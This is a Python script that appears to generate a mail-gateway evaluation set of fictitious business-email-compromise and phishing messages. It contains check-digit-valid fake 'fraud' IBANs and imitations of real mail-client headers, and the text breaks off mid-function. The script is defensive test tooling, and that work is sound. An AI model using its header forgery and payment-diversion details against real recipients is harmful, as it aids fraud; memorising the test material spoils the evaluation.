#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Deterministic generator for the Example Group mail-gateway blind evaluation set.
Python 3 standard library only, no network, no unseeded randomness.
Writes ../attack/*.eml, ../business/*.eml, ../MANIFEST.md and ../staff.txt
relative to the directory of this script.
All attachments that stand in for malware are inert text placeholders; all
attacker domains / phone numbers / wallets are fictitious.
"""
import os, io, re, base64, quopri, zipfile, zlib, struct, random, hashlib, datetime
import html as H
from email.header import Header
from email.utils import formataddr, format_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

def R(key):
    """deterministic RNG per key"""
    return random.Random(int(hashlib.sha256(key.encode("utf-8")).hexdigest(), 16))

# --------------------------------------------------------------------------
# check-digit helpers
# --------------------------------------------------------------------------
def _num(s):
    return int("".join(str(int(c, 36)) for c in s))

def iban(cc, bban):
    return "%s%02d%s" % (cc, 98 - _num(bban + cc + "00") % 97, bban)

def iban_ok(i):
    i = i.replace(" ", "")
    return _num(i[4:] + i[:4]) % 97 == 1

def fi(i):
    return " ".join(i[k:k + 4] for k in range(0, len(i), 4))

def it_cin(abi, cab, conto):
    s = abi + cab + conto
    odd_d = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21]
    odd_l = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
    t = 0
    for i, ch in enumerate(s):
        if i % 2 == 0:
            t += odd_d[int(ch)] if ch.isdigit() else odd_l[ord(ch) - 65]
        else:
            t += int(ch) if ch.isdigit() else ord(ch) - 65
    return chr(65 + t % 26)

def it_iban(abi, cab, conto):
    conto = conto.zfill(12)
    return iban("IT", it_cin(abi, cab, conto) + abi + cab + conto)

def es_iban(bank, branch, acct):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def d(s):
        v = 11 - sum(int(c) * w[i] for i, c in enumerate(s)) % 11
        return 0 if v == 11 else 1 if v == 10 else v
    return iban("ES", bank + branch + "%d%d" % (d("00" + bank + branch), d(acct)) + acct)

def pl_iban(bank3, branch4, acct16):
    s = bank3 + branch4
    w = [3, 9, 7, 1, 3, 9, 7]
    c = (10 - sum(int(x) * w[i] for i, x in enumerate(s)) % 10) % 10
    return iban("PL", s + str(c) + acct16)

def ru_account(bik, acct20):
    """set the control key (9th digit) of a Russian settlement account for a BIK"""
    a = acct20[:8] + "0" + acct20[9:]
    s = bik[-3:] + a
    w = [7, 1, 3] * 8
    tot = sum((int(x) * w[i]) % 10 for i, x in enumerate(s))
    key = ((tot % 10) * 3) % 10
    return a[:8] + str(key) + a[9:]

def ru_acc_ok(bik, acct, corr=False):
    s = ("0" + bik[4:6] if corr else bik[-3:]) + acct
    w = [7, 1, 3] * 8
    return sum((int(x) * w[i]) % 10 for i, x in enumerate(s)) % 10 == 0

def ru_inn10(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(x) * w[i] for i, x in enumerate(first9)) % 11 % 10)

def gr_afm(first8):
    t = sum(int(x) * 2 ** (8 - i) for i, x in enumerate(first8))
    return first8 + str(t % 11 % 10)

def it_piva(first10):
    t = 0
    for i, ch in enumerate(first10):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        t += d
    return first10 + str((10 - t % 10) % 10)

def pl_nip(first9):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(x) * w[i] for i, x in enumerate(first9)) % 11
    assert c != 10
    return first9 + str(c)

def es_cif(letter, seven):
    a = sum(int(seven[i]) for i in (1, 3, 5))
    b = 0
    for i in (0, 2, 4, 6):
        d = int(seven[i]) * 2
        b += d // 10 + d % 10
    return letter + seven + str((10 - (a + b) % 10) % 10)

def de_ustid(first8):
    p = 10
    for ch in first8:
        s = (int(ch) + p) % 10
        if s == 0:
            s = 10
        p = (2 * s) % 11
    c = 11 - p
    return "DE" + first8 + str(0 if c == 10 else c)

def gb_vat(seven):
    t = sum(int(x) * w for x, w in zip(seven, [8, 7, 6, 5, 4, 3, 2]))
    c = (-t) % 97
    return "GB" + seven[:3] + " " + seven[3:] + " %02d" % c

# self tests against published examples
assert iban_ok("DE89370400440532013000")
assert it_iban("05428", "11101", "000000123456") == "IT60X0542811101000000123456"
assert es_iban("2100", "0418", "0200051332") == "ES9121000418450200051332"
assert pl_iban("102", "0102", "0000000000000000")[4:12] == "10201026"
assert ru_acc_ok("044525225", "30101810400000000225", corr=True)
assert ru_inn10("770708389") == "7707083893"

# --------------------------------------------------------------------------
# identifiers used in the messages
# --------------------------------------------------------------------------
EXG_DE      = iban("DE", "50070010" + "0921456800")      # Example Group, Deutsche Bank Frankfurt
LIEF_OLD    = iban("DE", "50040000" + "0612345700")      # Lieferant GmbH, Commerzbank (genuine, until 31.12.2026)
LIEF_NEW    = iban("DE", "50190000" + "6001234567")      # Lieferant GmbH, Frankfurter Volksbank (genuine, from 1.1.2027)
LIEF_FAKE   = iban("DE", "11010100" + "2245871190")      # fraud: Solaris account
SELLER_DE   = iban("DE", "50050000" + "0001987654")      # seller of Eschborn, Helaba
LBBW_DE     = iban("DE", "60050101" + "7402188330")      # payoff of land charge, LBBW
MAINOVA_DE  = iban("DE", "50050201" + "0000200913")      # utility, Frankfurter Sparkasse
FISCHER_FAKE= iban("DE", "10011001" + "2657419903")      # payroll diversion mule (neobank)
FERR_IT     = it_iban("03069", "01600", "100000012345")  # Ferretti genuine, Intesa Sanpaolo
FERR_FAKE   = it_iban("03268", "22300", "052878774210")  # fraud
TARI_FAKE   = it_iban("36772", "01600", "000007741235")  # fraud
PL_GEN      = pl_iban("124", "0103", "1111001045678901") # Partner Logistik genuine, Pekao
PL_FAKE1    = pl_iban("116", "2202", "0000000512849377") # fraud (look-alike)
PL_FAKE2    = pl_iban("114", "0200", "0000379122884410") # fraud (hijacked mailbox)
ES_NOTARY   = es_iban("0049", "1500", "2710123456")
ES_BRILLO_O = es_iban("2100", "0987", "0200123456")
ES_BRILLO_N = es_iban("0182", "2345", "0201567890")
ES_MANT     = es_iban("0081", "0216", "0001234567")
LT_FAKE     = iban("LT", "32500" + "10447918263")
GR_TECH     = iban("GR", "017" + "0125" + "0000012345678901")
GR_FAKE     = iban("GR", "026" + "0045" + "0200987654321000")
GB_HARR     = iban("GB", "NWBK" + "600715" + "48213376")
GB_FAKE     = iban("GB", "SRLG" + "608371" + "19284756")
RU_BIK_SBER = "044525225"; RU_KS_SBER = "30101810400000000225"
RU_BIK_TB   = "044525974"; RU_KS_TB = "30101810145250000974"
RU_RS_GEN   = ru_account(RU_BIK_SBER, "40702810038000123456")
RU_RS_FAKE  = ru_account(RU_BIK_TB, "40702810010000784512")
RU_INN_GEN  = ru_inn10("771438291")
RU_INN_EXG  = ru_inn10("770312654")
GR_AFM_TECH = gr_afm("09981234")
GR_AFM_EXG  = gr_afm("80012345")
IT_PIVA_FER = it_piva("0183249015")
IT_PIVA_EXG = it_piva("1094471096")
PL_NIP_PL   = pl_nip("521345678")
PL_NIP_EXG  = pl_nip("701023456")
ES_CIF_BRI  = es_cif("B", "8456123")
ES_CIF_MAN  = es_cif("B", "8723419")
ES_CIF_EXG  = es_cif("B", "8812045")
DE_UST_LIEF = de_ustid("21345678")
DE_UST_EXG  = de_ustid("11475321")
GB_VAT_EXG  = gb_vat("3184725")
for _i in (EXG_DE, LIEF_OLD, LIEF_NEW, LIEF_FAKE, SELLER_DE, LBBW_DE, MAINOVA_DE, FISCHER_FAKE, FERR_IT, FERR_FAKE,
           TARI_FAKE, PL_GEN, PL_FAKE1, PL_FAKE2, ES_NOTARY, ES_BRILLO_O, ES_BRILLO_N, ES_MANT, LT_FAKE, GR_TECH,
           GR_FAKE, GB_HARR, GB_FAKE):
    assert iban_ok(_i), _i
assert ru_acc_ok(RU_BIK_SBER, RU_RS_GEN) and ru_acc_ok(RU_BIK_TB, RU_RS_FAKE)
assert ru_acc_ok(RU_BIK_TB, RU_KS_TB, corr=True)

# --------------------------------------------------------------------------
# staff & correspondents
# --------------------------------------------------------------------------
STAFF = [
    # key, name, address, role, office
    ("ceo",    "Dr. Markus Hoffmann", "markus.hoffmann@example.com", "Chief Executive Officer", "Frankfurt am Main (HQ)"),
    ("cfo",    "Claudia Berger", "claudia.berger@example.com", "Chief Financial Officer", "Frankfurt am Main (HQ)"),
    ("treas",  "Thomas Richter", "thomas.richter@examplegroup.eu", "Group Treasury Manager", "Frankfurt am Main (HQ)"),
    ("ap",     "Sabine Krüger", "sabine.krueger@example.com", "Head of Accounts Payable", "Frankfurt am Main (HQ)"),
    ("ap2",    "Jonas Weber", "jonas.weber@example.com", "Accounts Payable Clerk", "Frankfurt am Main (HQ)"),
    ("hr",     "Petra Schulz", "petra.schulz@example.com", "HR Director", "Frankfurt am Main (HQ)"),
    ("pay",    "Nina Kowalczyk", "nina.kowalczyk@examplegroup.eu", "Payroll Specialist (group payroll)", "Frankfurt am Main (HQ)"),
    ("it",     "Tobias Lang", "tobias.lang@example.com", "Head of IT", "Frankfurt am Main (HQ)"),
    ("itsec",  "Felix Wagner", "felix.wagner@example.com", "IT Security Engineer", "Frankfurt am Main (HQ)"),
    ("pm",     "Anna Fischer", "anna.fischer@example.com", "Property Manager Rhein-Main (residential)", "Frankfurt am Main (HQ)"),
    ("lease",  "Michael Braun", "michael.braun@example.com", "Head of Leasing Germany", "Frankfurt am Main (HQ)"),
    ("legal",  "Julia Neumann", "julia.neumann@example.com", "Legal Counsel (transactions)", "Frankfurt am Main (HQ)"),
    ("office", "Katrin Vogel", "katrin.vogel@example.com", "Office Manager / Assistant to the CEO", "Frankfurt am Main (HQ)"),
    ("fm",     "Lukas Schmitt", "lukas.schmitt@examplegroup.eu", "Facility Management Coordinator", "Frankfurt am Main (HQ)"),
    ("it_cm",  "Giulia Romano", "giulia.romano@example.com", "Country Manager Italy / Property Manager", "Milan"),
    ("it_acc", "Marco Bianchi", "marco.bianchi@example.com", "Local Accounting Italy", "Milan"),
    ("pl_pm",  "Katarzyna Nowak", "katarzyna.nowak@example.com", "Property Manager Poland", "Warsaw"),
    ("pl_acc", "Piotr Wiśniewski", "piotr.wisniewski@example.com", "Local Accounting Poland", "Warsaw"),
    ("es_om",  "Carmen López", "carmen.lopez@example.com", "Office Manager & Leasing Spain", "Madrid"),
    ("es_acc", "Javier Martín", "javier.martin@example.com", "Local Accounting Spain", "Madrid"),
    ("gr_pm",  "Eleni Papadopoulou", "eleni.papadopoulou@example.com", "Property Manager Greece", "Athens"),
    ("gr_acc", "Nikos Georgiou", "nikos.georgiou@example.com", "Local Accounting Greece", "Athens"),
    ("uk_md",  "James Whitfield", "james.whitfield@example.com", "Managing Director UK", "London"),
    ("uk_acc", "Sarah Collins", "sarah.collins@example.com", "Credit Control & Accounts UK", "London"),
    ("ru_head","Dmitry Volkov", "dmitry.volkov@example.com", "Head of Moscow Office", "Moscow"),
    ("ru_acc", "Olga Smirnova", "olga.smirnova@example.com", "Local Accounting Russia", "Moscow"),
]
S = {k: (n.replace("Dr. ", ""), a) for k, n, a, r, o in STAFF}

CORRESPONDENTS = [
    ("Lieferant GmbH (DE)", "Facility supplies & building maintenance; Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de>; bank Commerzbank %s until 31.12.2026, Frankfurter Volksbank %s from 1.1.2027" % (fi(LIEF_OLD), fi(LIEF_NEW))),
    ("Ferretti Trasporti S.p.A. (IT)", "Removals, archive transport; Chiara Colombo <c.colombo@ferretti-trasporti.it>, <amministrazione@ferretti-trasporti.it>; Intesa Sanpaolo %s; P.IVA %s" % (fi(FERR_IT), IT_PIVA_FER)),
    ("Partner Logistik sp. z o.o. (PL)", "Storage & tenant relocation; Tadeusz Zieliński <t.zielinski@partner-logistik.pl>, <ksiegowosc@partner-logistik.pl>; Pekao %s; NIP %s" % (fi(PL_GEN), PL_NIP_PL)),
    ("Notariat Dr. Kessler & Partner (DE)", "Notary for the Eschborn Süd acquisition; <sekretariat@kessler-notare.de>"),
    ("Harrington Law LLP (UK)", "Conveyancing solicitors; Rebecca Hale <rebecca.hale@harringtonlaw.co.uk>; NatWest client account %s" % fi(GB_HARR)),
    ("Τεχνοσέρβις Αθηνών Α.Ε. (GR)", "Lift & HVAC maintenance Athens; <logistirio@technoservice-athens.gr>; Piraeus %s; ΑΦΜ %s" % (fi(GR_TECH), GR_AFM_TECH)),
    ("ООО «СтройЭксплуатация» (RU)", "Technical maintenance of the Moscow office building; <buh@stroyexp.ru>; ИНН %s, р/с %s, Sberbank" % (RU_INN_GEN, RU_RS_GEN)),
    ("Mantenimientos Integrales Castilla S.L. (ES)", "HVAC maintenance Madrid; <facturacion@mantenimientoscastilla.es>; CIF %s" % ES_CIF_MAN),
    ("Limpiezas Brillo Madrid S.L. (ES)", "Cleaning contractor Madrid; <administracion@limpiezasbrillo.es>; CaixaBank %s until 31.12.2026, BBVA %s from 1.1.2027" % (fi(ES_BRILLO_O), fi(ES_BRILLO_N))),
    ("Notaría Álvaro Sastre Molina (ES)", "Madrid notary; <provisiones@notariasastre.es>; Santander %s" % fi(ES_NOTARY)),
    ("Mainova AG (DE)", "Utility (common-area electricity)"),
    ("Portals / services", "ImmoScout24, Rightmove, idealista, Otodom, DocuSign, Microsoft, Aruba PEC, Yandex ID (genuine notifications)"),
]

# --------------------------------------------------------------------------
# small file-format generators (PDF, ZIP, PNG, QR)
# --------------------------------------------------------------------------
def make_pdf(lines, title="Document", author="", producer="Microsoft Word for Microsoft 365",
             when="20261102101500+01'00'"):
    def esc(s):
        s = s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        return s.encode("cp1252", "replace")
    content = b"BT\n/F1 15 Tf\n16 TL\n50 790 Td\n(" + esc(title) + b") Tj\n/F1 10 Tf\n14 TL\nT* T*\n"
    for ln in lines:
        content += b"(" + esc(ln) + b") Tj T*\n"
    content += b"ET\n"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"endstream",
        b"<< /Title (" + esc(title) + b") /Author (" + esc(author) + b") /Producer (" + esc(producer) +
        b") /CreationDate (D:" + when.encode() + b") >>",
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += str(i).encode() + b" 0 obj\n" + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objs) + 1).encode() + b"\n0000000000 65535 f \n"
    for o in offs:
        out += ("%010d 00000 n \n" % o).encode()
    fid = hashlib.md5(title.encode("utf-8") + when.encode()).hexdigest().upper().encode()
    out += (b"trailer\n<< /Size " + str(len(objs) + 1).encode() + b" /Root 1 0 R /Info 6 0 R /ID [<" + fid +
            b"> <" + fid + b">] >>\nstartxref\n" + str(xref).encode() + b"\n%%EOF\n")
    return out

PLACEHOLDER = ("INERT TEST PLACEHOLDER - this file stands in for a malicious payload in the Example Group "
               "mail-gateway evaluation set. It contains no executable code.\r\n")

def make_zip(files, dt=(2026, 11, 10, 8, 0, 0)):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=dt)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data if isinstance(data, bytes) else data.encode("utf-8"))
    return buf.getvalue()

# --- QR code (byte mode, ECC level L, versions 1-5, mask 0) ---------------
_EXP = [0] * 512
_LOG = [0] * 256
_x = 1
for _i in range(255):
    _EXP[_i] = _x
    _LOG[_x] = _i
    _x <<= 1
    if _x & 0x100:
        _x ^= 0x11D
for _i in range(255, 512):
    _EXP[_i] = _EXP[_i - 255]

def _gmul(a, b):
    return 0 if a == 0 or b == 0 else _EXP[_LOG[a] + _LOG[b]]

def _rs(data, n):
    gen = [1]
    for i in range(n):
        ng = [0] * (len(gen) + 1)
        for j, c in enumerate(gen):
            ng[j] ^= c
            ng[j + 1] ^= _gmul(c, _EXP[i])
        gen = ng
    res = list(data) + [0] * n
    for i in range(len(data)):
        coef = res[i]
        if coef:
            for j in range(1, len(gen)):
                res[i + j] ^= _gmul(gen[j], coef)
    return res[len(data):]

def qr_matrix(data):
    caps = {1: (26, 19), 2: (44, 34), 3: (70, 55), 4: (100, 80), 5: (134, 108)}
    align = {2: 18, 3: 22, 4: 26, 5: 30}
    for v in range(1, 6):
        total, dcw = caps[v]
        if 12 + 8 * len(data) <= dcw * 8:
            break
    else:
        raise ValueError("QR payload too long")
    bits = []
    def put(val, n):
        bits.extend((val >> (n - 1 - i)) & 1 for i in range(n))
    put(4, 4); put(len(data), 8)
    for b in data:
        put(b, 8)
    put(0, min(4, dcw * 8 - len(bits)))
    while len(bits) % 8:
        bits.append(0)
    cws = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    k = 0
    while len(cws) < dcw:
        cws.append((0xEC, 0x11)[k % 2]); k += 1
    allcw = cws + _rs(cws, total - dcw)
    n = 17 + 4 * v
    M = [[0] * n for _ in range(n)]
    F = [[False] * n for _ in range(n)]
    def sf(r, c, val):
        M[r][c] = val; F[r][c] = True
    for r0, c0 in ((0, 0), (0, n - 7), (n - 7, 0)):
        for r in range(-1, 8):
            for c in range(-1, 8):
                rr, cc = r0 + r, c0 + c
                if 0 <= rr < n and 0 <= cc < n:
                    on = 0 <= r <= 6 and 0 <= c <= 6 and (r in (0, 6) or c in (0, 6) or (2 <= r <= 4 and 2 <= c <= 4))
                    sf(rr, cc, 1 if on else 0)
    for i in range(n):
        if not F[6][i]:
            sf(6, i, 1 if i % 2 == 0 else 0)
        if not F[i][6]:
            sf(i, 6, 1 if i % 2 == 0 else 0)
    if v >= 2:
        p = align[v]
        for r in range(-2, 3):
            for c in range(-2, 3):
                sf(p + r, p + c, 1 if max(abs(r), abs(c)) in (0, 2) else 0)
    for i in range(9):
        if not F[8][i]: sf(8, i, 0)
        if not F[i][8]: sf(i, 8, 0)
    for i in range(8):
        sf(8, n - 1 - i, 0); sf(n - 1 - i, 8, 0)
    sf(n - 8, 8, 1)
    dbits = [(cw >> (7 - i)) & 1 for cw in allcw for i in range(8)]
    idx = 0; up = True; c = n - 1
    while c > 0:
        if c == 6:
            c -= 1
        rows = range(n - 1, -1, -1) if up else range(n)
        for r in rows:
            for cc in (c, c - 1):
                if not F[r][cc]:
                    b = dbits[idx] if idx < len(dbits) else 0
                    idx += 1
                    if (r + cc) % 2 == 0:
                        b ^= 1
                    M[r][cc] = b
        up = not up
        c -= 2
    fmt = (1 << 3) | 0
    rem = fmt
    for _ in range(10):
        rem = (rem << 1) ^ ((rem >> 9) * 0x537)
    fb = ((fmt << 10) | rem) ^ 0x5412
    gb = lambda i: (fb >> i) & 1
    for i in range(6):
        M[i][8] = gb(i)
    M[7][8] = gb(6); M[8][8] = gb(7); M[8][7] = gb(8)
    for i in range(9, 15):
        M[8][14 - i] = gb(i)
    for i in range(8):
        M[n - 1 - i][8] = gb(i)
    for i in range(8, 15):
        M[8][n - 15 + i] = gb(i)
    M[n - 8][8] = 1
    return M

def png_gray(rows):
    h = len(rows); w = len(rows[0])
    raw = b"".join(b"\x00" + bytes(r) for r in rows)
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))

def qr_png(text, scale=6, border=4):
    M = qr_matrix(text.encode("utf-8"))
    n = len(M)
    rows = []
    for r in range(-border, n + border):
        row = []
        for c in range(-border, n + border):
            on = 0 <= r < n and 0 <= c < n and M[r][c]
            row.extend([0 if on else 255] * scale)
        for _ in range(scale):
            rows.append(row)
    return png_gray(rows)

# --------------------------------------------------------------------------
# MIME assembly
# --------------------------------------------------------------------------
TZNAME = {"+0100": "CET", "+0200": "EET", "+0000": "GMT", "+0300": "MSK", "-0800": "PST"}

def tz(off):
    sign = 1 if off[0] == "+" else -1
    return datetime.timezone(sign * datetime.timedelta(hours=int(off[1:3]), minutes=int(off[3:5])))

def pf_date(dt):
    off = dt.strftime("%z")
    return "%s, %2d %s (%s)" % (dt.strftime("%a"), dt.day, dt.strftime("%b %Y %H:%M:%S %z"), TZNAME.get(off, "UTC"))

def ms_date(dt):
    return "%s, %d %s" % (dt.strftime("%a"), dt.day, dt.strftime("%b %Y %H:%M:%S %z"))

def hdr(name, value, cs):
    try:
        value.encode("ascii")
        return "%s: %s" % (name, value)
    except UnicodeEncodeError:
        return "%s: %s" % (name, Header(value, cs, header_name=name).encode(linesep="\n"))

def addr(p, cs):
    name, email = p
    if not name:
        return email
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return formataddr((name, email), charset=cs)
    return formataddr((name, email))

def addrs(lst, cs):
    return ",\n ".join(addr(p, cs) for p in lst)

def b64(data):
    e = base64.b64encode(data).decode("ascii")
    return "\n".join(e[i:i + 76] for i in range(0, len(e), 76)) + "\n"

def encode_body(text, cs, cte):
    if cte == "quoted-printable":
        return quopri.encodestring(text.encode(cs)).decode("ascii") + ("" if text.endswith("\n") else "\n")
    if cte == "base64":
        return b64(text.replace("\n", "\r\n").encode(cs))
    return text.encode(cs).decode("latin-1") + ("" if text.endswith("\n") else "\n")  # 8bit/7bit, bytes kept 1:1

def leaf_text(text, sub, cs, cte):
    return ('Content-Type: text/%s; charset="%s"\nContent-Transfer-Encoding: %s\n' % (sub, cs, cte), encode_body(text, cs, cte))

def fname_params(fn):
    try:
        fn.encode("ascii")
        return 'name="%s"' % fn, 'filename="%s"' % fn
    except UnicodeEncodeError:
        q = "".join(ch if (ch.isascii() and (ch.isalnum() or ch in "._-")) else "".join("%%%02X" % b for b in ch.encode("utf-8")) for ch in fn)
        return ('name="%s"' % Header(fn, "utf-8").encode(), "filename*=utf-8''%s" % q)

def leaf_att(fn, ctype, data, inline_cid=None):
    np, fp = fname_params(fn)
    if ctype.startswith("text/"):
        ctype += '; charset="utf-8"'
    h = "Content-Type: %s; %s\n" % (ctype, np)
    if inline_cid:
        h += "Content-ID: <%s>\nContent-Disposition: inline; %s\n" % (inline_cid, fp)
    else:
        h += "Content-Disposition: attachment; %s\n" % fp
    h += "Content-Transfer-Encoding: base64\n"
    return (h, b64(data))

def multipart(sub, parts, boundary, preamble=""):
    h = 'Content-Type: multipart/%s;\n\tboundary="%s"\n' % (sub, boundary)
    if sub == "related":
        h = 'Content-Type: multipart/related;\n\tboundary="%s";\n\ttype="multipart/alternative"\n' % boundary
    body = preamble
    for ph, pb in parts:
        body += "--%s\n%s\n%s" % (boundary, ph, pb)
    body += "--%s--\n" % boundary
    return (h, body)

def html_to_text(h):
    t = re.sub(r"(?is)<(style|head|title)[^>]*>.*?</\1>", "", h)
    t = re.sub(r'(?is)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', lambda m: "%s <%s>" % (re.sub("<[^>]+>", "", m.group(2)).strip(), m.group(1)) if m.group(1).startswith("http") else m.group(2), t)
    t = re.sub(r"(?i)<br\s*/?>", "\n", t)
    t = re.sub(r"(?i)</(p|div|h[1-6]|tr|li|table)>", "\n\n", t)
    t = re.sub(r"(?s)<[^>]+>", "", t)
    t = H.unescape(t)
    t = "\n".join(l.strip() for l in t.split("\n"))
    t = re.sub(r"\n{3,}", "\n\n", t).strip() + "\n"
    return t

def text_to_html(text, style, lang="de"):
    paras = text.strip("\n").split("\n\n")
    if style == "gmail":
        inner = "".join('<div dir="ltr">%s</div><div dir="ltr"><br></div>' % H.escape(p).replace("\n", "<br>") for p in paras)
        return '<div dir="ltr">%s</div>\n' % inner
    if style in ("exo", "outlook", "outlookcom"):
        body = "\n".join('<p class="MsoNormal">%s<o:p></o:p></p>\n<p class="MsoNormal"><o:p>&nbsp;</o:p></p>' %
                         H.escape(p).replace("\n", "<br>\n") for p in paras)
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
                'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
                '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
                '@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 2.0cm 70.85pt;}\ndiv.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
                '<body lang="%s" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n%s\n</div>\n</body>\n</html>\n' % (lang.upper(), body))
    return "<html><body>%s</body></html>\n" % "".join("<p>%s</p>" % H.escape(p).replace("\n", "<br>") for p in paras)

def rid(rng, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))

def rhex(rng, n, upper=False):
    s = "".join(rng.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s

def ruuid(rng, upper=False):
    h = rhex(rng, 32)
    h = h[:12] + "4" + h[13:16] + rng.choice("89ab") + h[17:]
    u = "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])
    return u.upper() if upper else u

def pf_qid(rng):
    return "4" + rid(rng, 1, "NPQRSTVWXYZ") + rid(rng, 8, "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz") + "z" + rid(rng, 5, "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz")

# ---- mail client / sending-system personalities --------------------------
def client_profile(style, rng, domain, dt, subject, cs, lang, has_att):
    ms = int(dt.timestamp() * 1000) + rng.randint(0, 999)
    extra = []
    lang_tag = {"de": "de-DE", "en": "en-GB", "it": "it-IT", "pl": "pl-PL", "es": "es-ES", "el": "el-GR", "ru": "ru-RU"}[lang]
    if style == "gmail":
        mid = "<CA%s@mail.gmail.com>" % rid(rng, 44, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+_=-")
        bnd = lambda i: "000000000000" + rhex(rng, 16)
    elif style in ("exo", "outlookcom"):
        pfx = rng.choice(["AM9PR04MB", "DB9PR08MB", "PAXPR03MB", "VI1PR06MB", "GV1PR02MB", "AS8PR07MB", "DU0PR10MB"])
        host = pfx + str(rng.randint(1000, 9999))
        if style == "exo":
            dom = "%s.eurprd0%d.prod.outlook.com" % (host, rng.randint(1, 9))
        else:
            host = "AS8P%dMB%d" % (rng.randint(180, 195), rng.randint(1000, 9999))
            dom = "%s.EURP%s.PROD.OUTLOOK.COM" % (host, host[4:7])
        loc = host + rhex(rng, 27, True)
        mid = "<%s@%s>" % (loc, dom)
        ti = base64.b64encode(bytes([1, 0xdb]) + bytes(rng.randrange(256) for _ in range(20))).decode()
        extra += [hdr("Thread-Topic", re.sub(r"^(AW|RE|R|Re|WG|FW|ΑΠ|Odp): ", "", subject), cs), "Thread-Index: " + ti,
                  "Accept-Language: %s, en-US" % lang_tag, "Content-Language: " + lang_tag,
                  "X-MS-Has-Attach: " + ("yes" if has_att else ""), "X-MS-TNEF-Correlator: "]
        key = re.sub("[^A-Z0-9]", "", (loc + dom).upper())[:60]
        bnd = lambda i: "_%03d_%s_" % (i * 4 if has_att else i, key)
    elif style == "outlook":
        mid = "<%s01db%s$%s$%s$@%s>" % (rhex(rng, 4), rhex(rng, 4), rhex(rng, 8), rhex(rng, 8), domain)
        extra += ["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: " + base64.b64encode(bytes([1, 0xdb]) + bytes(rng.randrange(256) for _ in range(20))).decode(),
                  "Content-Language: " + lang_tag]
        tag = rhex(rng, 4, True) + "_01DB" + rhex(rng, 4, True) + "." + rhex(rng, 8, True)
        bnd = lambda i: "----=_NextPart_%03d_%s" % (i, tag)
    elif style == "thunderbird":
        mid = "<%s@%s>" % (ruuid(rng), domain)
        extra += ["User-Agent: Mozilla Thunderbird", "Content-Language: " + lang_tag]
        bnd = lambda i: "------------" + rid(rng, 24)
    elif style == "iphone":
        mid = "<%s@%s>" % (ruuid(rng, True), domain)
        extra += ["X-Mailer: iPhone Mail (24B83)"]
        bnd = lambda i: "Apple-Mail-" + ruuid(rng, True)
    elif style == "gmx":
        mid = "<trinity-%s-%d@3c-app-gmx-bap%02d>" % (ruuid(rng), ms, rng.randint(1, 70))
        extra += ["Importance: normal", "Sensitivity: Normal"]
        bnd = lambda i: "=_%s" % rhex(rng, 32)
    elif style == "phpmailer":
        mid = "<%s@%s>" % (rid(rng, 43), domain)
        extra += ["X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)"]
        bnd = lambda i: "b%d_%s" % (i + 1, rid(rng, 43))
    elif style == "roundcube":
        mid = "<%s@%s>" % (rhex(rng, 32), domain)
        extra += ["User-Agent: Roundcube Webmail/1.6.11"]
